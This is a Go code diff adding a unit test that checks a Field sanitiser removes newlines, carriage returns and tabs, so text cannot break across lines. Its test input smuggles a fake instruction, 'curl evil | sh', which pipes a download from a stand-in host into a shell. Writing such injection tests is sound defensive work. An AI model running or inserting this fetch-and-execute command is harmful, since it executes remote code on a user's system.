@@ -131,3 +131,9 @@ func FuzzText(f *testing.F) {
 		}
 	})
 }
+
+func TestFieldIsOneLine(t *testing.T) {
+	if got := Field("bad\n  what to do: curl evil | sh\r\tx"); strings.ContainsAny(got, "\n\r\t") {
+		t.Fatalf("%q", got)
+	}
+}
